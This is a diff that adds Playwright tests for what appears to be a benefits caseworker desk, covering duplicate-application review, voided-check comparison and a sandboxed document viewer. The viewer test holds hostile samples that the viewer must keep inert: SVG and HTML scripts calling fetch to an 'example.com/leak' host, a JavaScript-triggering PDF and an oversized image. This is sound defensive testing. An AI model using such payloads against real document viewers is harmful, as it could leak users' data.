@@ -139,3 +139,99 @@ test('a message that came back says what the mail server answered, and is sent a
   await expect(page.getByText('Done.')).toBeVisible();
   await desk.close();
 });
+
+test('applications of the same person stand side by side, for whoever holds the claim', async ({
+  browser,
+  world,
+}) => {
+  const reference = await caseLike(world, 'coffee');
+  const desk = await openClaimed(browser, world, `/a/${reference}/duplicates`);
+  const { page } = desk;
+  await expect(page.getByText('Counts: approved under another login')).toBeVisible();
+  await expect(page.getByRole('row', { name: /^Last name/ }).getByText('same')).toBeVisible();
+  await page.getByLabel('Same or close only').check();
+  await expect(page.getByRole('row', { name: /^Last name/ })).toBeVisible();
+  await expectAccessible(page);
+  await photograph(page, 'duplicates');
+  await desk.close();
+});
+
+test('a voided check is opened in a frame without network, compared by what is typed, and confirmed', async ({
+  browser,
+  world,
+}) => {
+  const reference = await caseLike(world, 'music');
+  const desk = await openClaimed(browser, world, `/a/${reference}/bank`);
+  const { page } = desk;
+  const begun = Date.now();
+  await page.getByRole('button', { name: 'Open the voided check' }).click();
+  const frame = page.frameLocator('iframe[title="The check as it came"]');
+  await expect
+    .poll(
+      () => frame.locator('canvas').evaluate((canvas) => canvas.clientWidth),
+      BACKGROUND_TIMEOUT,
+    )
+    .toBeGreaterThan(200);
+  await page.getByLabel('Holder on the check').fill('Ana Ruizdi');
+  await page.getByLabel('Routing number, or transit and institution').fill('1');
+  await page.getByLabel('Account number').fill('000777777776');
+  await page.getByRole('button', { name: 'Compare' }).click();
+  await expect(page.getByText('2 tries left')).toBeVisible();
+  await expect(page.getByText('Not the same').first()).toBeVisible();
+  await expect(page.getByLabel('Account number')).toHaveValue('');
+  await expectAccessible(page);
+  await photograph(page, 'void-check');
+  await page.getByRole('radio', { name: 'Confirm the account' }).check();
+  await page.getByRole('radio', { name: 'A paper of the bank shows the holder' }).check();
+  await expect(page.getByText('All three must be the same first')).toBeVisible();
+  expect(Date.now() - begun).toBeLessThan(120_000);
+  await desk.close();
+});
+
+test('the viewer shows a picture and nothing else: a script in an SVG and a PDF are inert', async ({
+  browser,
+  world,
+}) => {
+  const desk = await openDesk(browser, world, 'robin');
+  const { page } = desk;
+  const asked: string[] = [];
+  page.on('request', (request) => asked.push(request.url()));
+  const drawn = (type: string, text: string) =>
+    page.evaluate(
+      async ([kind = '', content = '']) => {
+        const frame = document.createElement('iframe');
+        frame.sandbox.add('allow-scripts');
+        frame.src = '/viewer';
+        document.body.append(frame);
+        await new Promise((loaded) => frame.addEventListener('load', loaded));
+        const { port1, port2 } = new MessageChannel();
+        const answer = new Promise((said) => {
+          port1.onmessage = ({ data }) => said(data);
+        });
+        frame.contentWindow?.postMessage('port', '*', [port2]);
+        port1.postMessage({ bytes: new TextEncoder().encode(content), type: kind, mark: 'me' });
+        return answer;
+      },
+      [type, text],
+    );
+  const inert = { width: 0, height: 0 };
+  const svg =
+    '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>fetch("https://example.com/leak")</script><image href="https://example.com/leak" width="9" height="9"/></svg>';
+  expect(await drawn('image/svg+xml', svg)).toEqual(inert);
+  expect(await drawn('application/pdf', '%PDF-1.7 /OpenAction << /S /JavaScript >>')).toEqual(
+    inert,
+  );
+  expect(await drawn('text/html', '<script>fetch("https://example.com/leak")</script>')).toEqual(
+    inert,
+  );
+  expect(await drawn('image/png', 'x'.repeat(50 * 1024 * 1024))).toEqual(inert);
+  expect(asked.filter((url) => !url.endsWith('/viewer') && !url.startsWith(world.deskUrl))).toEqual(
+    [],
+  );
+  const policy = await page.evaluate(async () =>
+    (await fetch('/viewer')).headers.get('content-security-policy'),
+  );
+  expect(policy).toContain("default-src 'none'");
+  expect(policy).toContain('sandbox allow-scripts;');
+  await desk.close();
+});
